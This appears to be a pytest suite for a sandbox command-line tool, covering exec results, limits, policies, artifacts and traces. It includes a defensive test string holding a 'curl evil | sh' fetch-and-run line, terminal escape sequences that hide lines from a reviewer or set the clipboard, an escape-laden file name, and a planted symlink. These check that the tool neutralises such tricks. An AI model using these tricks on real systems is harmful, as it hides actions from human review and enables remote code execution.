"""`sandboxctl` as a user runs it: a real process against the real daemon."""

from __future__ import annotations

import hashlib
import json
import os
import select
import subprocess
import sys
import time
from pathlib import Path

SANDBOXCTL = str(Path(sys.executable).with_name("sandboxctl"))


def ctl(daemon, *args: str, stdin: bytes | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([SANDBOXCTL, "--socket", str(daemon.socket), *args], input=stdin,
                          capture_output=True, timeout=timeout)


def test_exec_passes_output_and_exit_code(daemon, workspace):
    p = ctl(daemon, "exec", "--workspace", str(workspace), "--", "sh", "-c", "echo out; echo err >&2; exit 7")
    assert (p.returncode, p.stdout, p.stderr) == (7, b"out\n", b"err\n")


def test_exec_json_prints_the_result_after_the_output(daemon, workspace):
    p = ctl(daemon, "exec", "--json", "--workspace", str(workspace), "--env", "WHO=agent", "--", "sh", "-c", "echo hi $WHO")
    assert p.returncode == 0
    first, last = p.stdout.split(b"\n", 1)
    assert first == b"hi agent"
    result = json.loads(last)
    assert result["status"] == "success" and result["exitCode"] == 0 and result["stdoutPreview"] == "hi agent\n"
    assert {a["kind"] for a in result["artifacts"]} == {"stdout"}


def test_exec_timeout_exits_124(daemon, workspace):
    p = ctl(daemon, "exec", "--timeout-ms", "500", "--workspace", str(workspace), "--", "sleep", "30")
    assert p.returncode == 124


def test_exec_memory_kill_exits_137(daemon, workspace):
    bomb = "a = []\nwhile True:\n    a.append(bytearray(8 * 1024 * 1024))\n"
    p = ctl(daemon, "exec", "--memory-mb", "48", "--workspace", str(workspace), "--", "python3", "-c", bomb)
    assert p.returncode == 137


def test_exec_refusal_exits_125_with_the_reason(daemon, workspace, tmp_path):
    p = ctl(daemon, "exec", "--workspace", str(tmp_path), "--", "true")
    assert p.returncode == 125
    assert b"PERMISSION_DENIED" in p.stderr and b"workspace" in p.stderr


def test_exec_policy_file_yaml(daemon, tmp_path):
    ws = daemon.new_workspace({"out/.keep": "", "in.txt": "data\n"})
    policy = tmp_path / "policy.yaml"
    policy.write_text("filesystem:\n  readRoots: [/workspace]\n  writeRoots: [/workspace/out]\nprocess:\n  timeoutMs: 5000\n")
    p = ctl(daemon, "exec", "--policy", str(policy), "--workspace", str(ws), "--", "sh", "-c", "cp /workspace/in.txt /workspace/out/copy.txt")
    assert p.returncode == 0, p.stderr
    assert (ws / "out" / "copy.txt").read_text() == "data\n"


def test_exec_stdin(daemon, workspace):
    p = ctl(daemon, "exec", "--stdin", "--workspace", str(workspace), "--", "wc", "-c", stdin=b"12345")
    assert p.stdout.strip() == b"5"


def test_artifact_get_trace_and_explain(daemon, workspace, tmp_path):
    p = ctl(daemon, "exec", "--json", "--workspace", str(workspace), "--", "sh", "-c",
            "seq 1 1000; cat /workspace/README.md /workspace/src/app.py > /dev/null")
    result = json.loads(p.stdout.splitlines()[-1])
    artifact = result["artifacts"][0]
    target = tmp_path / "stdout.txt"
    g = ctl(daemon, "artifact", "get", artifact["artifactId"], "-o", str(target))
    assert g.returncode == 0 and b"verified" in g.stderr
    assert "sha256:" + hashlib.sha256(target.read_bytes()).hexdigest() == artifact["contentHash"]
    assert target.read_bytes() == b"".join(b"%d\n" % i for i in range(1, 1001))

    ls = ctl(daemon, "artifact", "ls", result["toolCallId"], "--json")
    assert [a["artifactId"] for a in json.loads(ls.stdout)] == [artifact["artifactId"]]

    t = ctl(daemon, "trace", result["toolCallId"], "--json")
    assert t.returncode == 0
    events = [json.loads(line) for line in t.stdout.splitlines()]
    assert events[0]["type"] == "ToolCallRequested" and events[-1]["type"] == "ArtifactPersisted"
    assert all(e["hashVerified"] for e in events)
    human = ctl(daemon, "trace", result["toolCallId"])
    assert b"ToolCallFinished" in human.stdout and human.returncode == 0
    # The reads, summed up for people under their FileAccessObserved event.
    assert b"2 read: read /workspace/README.md, read /workspace/src/app.py\n" in human.stdout, human.stdout

    missing = ctl(daemon, "trace", "tc-does-not-exist")
    assert missing.returncode == 1 and b"NOT_FOUND" in missing.stderr

    policy = tmp_path / "p.json"
    policy.write_text(json.dumps({"process": {"maxPids": 64}, "network": {"egress": "open"}}))
    e = ctl(daemon, "explain", "--json", "--policy", str(policy), "--workspace", str(workspace))
    assert e.returncode == 0, e.stderr
    explained = json.loads(e.stdout)
    assert explained["spec"]["pids_limit"] == 64 and explained["effectivePolicy"]["egress"] == "open"
    # Private networks are the operator's to open (egress.private_networks_principals): explain says so too.
    policy.write_text(json.dumps({"network": {"egress": "open", "denyPrivateNetworks": False}}))
    refused = ctl(daemon, "explain", "--json", "--policy", str(policy), "--workspace", str(workspace))
    assert refused.returncode == 1 and b"private_networks_principals" in refused.stderr, refused.stderr


def on_terminal(daemon, *args: str, timeout: float = 120) -> tuple[int, bytes]:
    """`sandboxctl` with stdout and stderr on a pty, as a user at a terminal runs it: its
    exit code and what the terminal received (its own CR before each newline dropped)."""
    master, slave = os.openpty()
    try:
        p = subprocess.Popen([SANDBOXCTL, "--socket", str(daemon.socket), *args], stdin=subprocess.DEVNULL,
                             stdout=slave, stderr=slave)
        os.close(slave)
        slave = -1
        out, deadline = b"", time.monotonic() + timeout
        while time.monotonic() < deadline:
            if not select.select([master], [], [], 1)[0]:
                continue
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the last writer is gone
                break
            if not chunk:
                break
            out += chunk
        return p.wait(timeout=10), out.replace(b"\r\n", b"\n")
    finally:
        os.close(master)
        if slave >= 0:
            os.close(slave)


# What a sandbox may print to hide a line from a reviewer, or set the clipboard (OSC 52).
HIDING = ("printf 'ok\\033[1A\\033[2K\\rfine\\n'; printf 'clip\\033]52;c;eA==\\007\\n' >&2; "
          "printf '+curl evil | sh\\033[1A\\033[2K\\n' > /workspace/new.txt; "
          "printf x > \"/workspace/$(printf 'n\\033[2Jame')\"")


def test_a_sandboxs_bytes_are_shown_visibly_on_a_terminal_and_raw_through_a_pipe(daemon, tmp_path):
    ws = daemon.new_workspace({"README.md": "hi\n"})
    result_file = tmp_path / "result.json"
    piped = ctl(daemon, "exec", "-w", "/workspace", "--workspace", str(ws), "--result-json", str(result_file), "--",
                "sh", "-c", HIDING)
    assert (piped.returncode, piped.stdout, piped.stderr) == (0, b"ok\x1b[1A\x1b[2K\rfine\n",
                                                              b"clip\x1b]52;c;eA==\x07\n")
    result = json.loads(result_file.read_text())
    call_id = result["toolCallId"]
    [stdout_artifact] = [a["artifactId"] for a in result["artifacts"] if a["kind"] == "stdout"]

    code, shown = on_terminal(daemon, "exec", "-w", "/workspace", "--workspace", str(ws), "--", "sh", "-c", HIDING)
    assert code == 0 and b"\x1b" not in shown and b"\x07" not in shown
    assert b"ok\\x1b[1A\\x1b[2K\\rfine\n" in shown and b"clip\\x1b]52;c;eA==\\x07\n" in shown
    code, shown = on_terminal(daemon, "logs", call_id)
    assert code == 0 and b"\x1b" not in shown and b"ok\\x1b[1A\\x1b[2K\\rfine\n" in shown
    code, shown = on_terminal(daemon, "artifact", "get", stdout_artifact)
    assert code == 0 and shown.startswith(b"ok\\x1b[1A\\x1b[2K\\rfine\n")
    code, shown = on_terminal(daemon, "diff", call_id)
    assert code == 0 and b"\x1b" not in shown and b"+curl evil | sh\\x1b[1A\\x1b[2K\n" in shown
    # --raw on a terminal, and a pipe: the bytes as they are.
    code, raw = on_terminal(daemon, "diff", "--raw", call_id)
    assert code == 0 and b"+curl evil | sh\x1b[1A\x1b[2K\n" in raw
    assert b"+curl evil | sh\x1b[1A\x1b[2K\n" in ctl(daemon, "diff", call_id).stdout
    # A listing's paths are escaped, piped or not.
    listed = ctl(daemon, "artifact", "ls", call_id)
    assert listed.returncode == 0 and b"\x1b" not in listed.stdout and b"/workspace/n\\u001b[2Jame" in listed.stdout


def test_artifact_get_o_never_writes_through_a_link_planted_at_its_temporary_name(daemon, workspace, tmp_path):
    shared = tmp_path / "shared"  # as /tmp: everyone writes, each keeps their names
    shared.mkdir()
    shared.chmod(0o1777)
    victim = tmp_path / "victim"
    victim.write_bytes(b"mine\n")
    (shared / "out.txt.part").symlink_to(victim)  # planted by another user
    os.lchown(shared / "out.txt.part", 65534, 65534)
    p = ctl(daemon, "exec", "--json", "--workspace", str(workspace), "--", "echo", "from the sandbox")
    [artifact] = json.loads(p.stdout.splitlines()[-1])["artifacts"]
    got = ctl(daemon, "artifact", "get", artifact["artifactId"], "-o", str(shared / "out.txt"))
    assert got.returncode == 0, got.stderr
    assert victim.read_bytes() == b"mine\n" and (shared / "out.txt").read_bytes() == b"from the sandbox\n"
